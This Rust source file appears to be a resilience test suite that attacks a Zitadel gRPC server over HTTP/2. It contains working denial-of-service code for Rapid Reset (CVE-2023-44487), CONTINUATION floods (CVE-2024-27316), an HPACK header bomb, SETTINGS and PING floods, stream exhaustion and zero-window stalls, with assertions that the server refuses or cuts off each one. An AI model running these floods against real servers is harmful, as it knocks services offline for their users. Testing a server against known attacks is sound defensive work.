//! HTTP/2 against its spirit: frames that cost their sender little.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    task::JoinSet,
};

use crate::frames::{
    self, CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, ENHANCE_YOUR_CALM, HEADERS, PING,
    REFUSED_STREAM, RST_STREAM, SETTINGS, frame, header, indexed,
};

const SET: &str = "/zitadel.management.v1.ManagementService/SetOrgMetadata";
const LIST: &str = "/zitadel.management.v1.ManagementService/ListOrgMetadata";

/// Streams that are opened and reset at once (CVE-2023-44487).
pub async fn rapid_reset(address: SocketAddr) {
    let headers = frames::call(SET, "application/grpc");
    for _ in 0..20 {
        let mut connection = Connection::open(address, &[]).await;
        for stream in (1..200_000).step_by(2) {
            let mut pair = frame(HEADERS, END_HEADERS, stream, &headers);
            pair.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            if !connection.send(&pair).await {
                break;
            }
        }
        let reason = connection.end().await;
        assert!(matches!(reason, None | Some(ENHANCE_YOUR_CALM)), "{reason:?}");
    }
}

/// Headers that never end (CVE-2024-27316).
pub async fn endless_headers(address: SocketAddr) {
    for _ in 0..20 {
        let mut connection = Connection::open(address, &[]).await;
        connection.send(&frame(HEADERS, 0, 1, &frames::call(SET, "application/grpc"))).await;
        let more = frame(CONTINUATION, 0, 1, &header("x", &"y".repeat(1_000)));
        let mut sent = 0;
        while connection.send(&more).await {
            sent += more.len();
            assert!(sent < 100_000_000, "it reads on and on");
        }
        let reason = connection.end().await;
        assert!(matches!(reason, None | Some(ENHANCE_YOUR_CALM | 1)), "{reason:?}");
    }
}

/// A header that is sent once, and meant a thousand times in each request.
pub async fn header_bomb(address: SocketAddr) {
    for _ in 0..10 {
        let mut connection = Connection::open(address, &[]).await;
        let mut headers = frames::call(SET, "application/grpc");
        headers.extend(indexed("x", &"y".repeat(3_900)));
        headers.extend([0x80 | 62; 4_000]);
        for stream in (1..200).step_by(2) {
            let flags = END_HEADERS | END_STREAM;
            if !connection.send(&frame(HEADERS, flags, stream, &headers)).await {
                break;
            }
        }
        // Each is refused, or the connection is ended.
        let mut answered = 0;
        while answered < 100
            && let Some(frame) = connection.next().await
        {
            answered += usize::from(matches!(frame.kind, HEADERS | RST_STREAM));
        }
    }
}

/// Small frames that have to be answered; the answers are read, or not.
async fn flood(address: SocketAddr, frame: Vec<u8>, are_read: bool) {
    let mut tasks = JoinSet::new();
    for _ in 0..4 {
        let many = frame.repeat(1_000);
        tasks.spawn(async move {
            let (mut read, mut write) = Connection::open(address, &[]).await.stream.into_split();
            let reading = async {
                while are_read && matches!(read.read(&mut [0; 64 * 1024]).await, Ok(1..)) {}
                std::future::pending::<()>().await;
            };
            let writing = async {
                for _ in 0..1_000 {
                    // Who answers must stop to read when nobody takes the answers, or end the connection.
                    let sent = tokio::time::timeout(Duration::from_secs(1), write.write_all(&many)).await;
                    if !matches!(sent, Ok(Ok(()))) {
                        return;
                    }
                }
                panic!("it takes whatever comes");
            };
            tokio::select! {
                () = reading => {}
                () = writing => {}
            }
        });
    }
    tasks.join_all().await;
}

const A_SETTING: [u8; 6] = [0, 4, 0, 1, 0, 0];

pub async fn settings_flood(address: SocketAddr) {
    flood(address, frame(SETTINGS, 0, 0, &A_SETTING), true).await;
}

pub async fn ping_flood(address: SocketAddr) {
    flood(address, frame(PING, 0, 0, &[7; 8]), true).await;
}

pub async fn ping_flood_unread(address: SocketAddr) {
    flood(address, frame(PING, 0, 0, &[7; 8]), false).await;
}

/// Calls that are begun and not ended, more than are allowed at once.
pub async fn many_streams(address: SocketAddr) {
    let headers = frames::call(SET, "application/grpc");
    let mut connection = Connection::open(address, &[]).await;
    for stream in (1..20_000).step_by(2) {
        if !connection.send(&frame(HEADERS, END_HEADERS, stream, &headers)).await {
            break;
        }
        // Bodies that do not end.
        connection.send(&frame(DATA, 0, stream, b"\0\0\0\0\x10")).await;
    }
    let (mut refused, mut answered) = (0, 0);
    while refused + answered < 10_000 {
        let Some(frame) = connection.next().await else { break };
        match frame.reason() {
            Some(REFUSED_STREAM) => refused += 1,
            Some(ENHANCE_YOUR_CALM) => break,
            _ => answered += usize::from(frame.kind == HEADERS),
        }
    }
    assert!(refused > 0, "no stream was refused");
}

/// Replies for which there is never room.
pub async fn closed_windows(address: SocketAddr) {
    let headers = frames::call(LIST, "application/grpc");
    let mut tasks = JoinSet::new();
    for _ in 0..8 {
        let headers = headers.clone();
        tasks.spawn(async move {
            // SETTINGS_INITIAL_WINDOW_SIZE
            let mut connection = Connection::open(address, &[(4, 0)]).await;
            for stream in (1..200).step_by(2) {
                connection.send(&frame(HEADERS, END_HEADERS, stream, &headers)).await;
                connection.send(&frame(DATA, END_STREAM, stream, &[0; 5])).await;
            }
            connection.end().await;
        });
    }
    tasks.join_all().await;
}
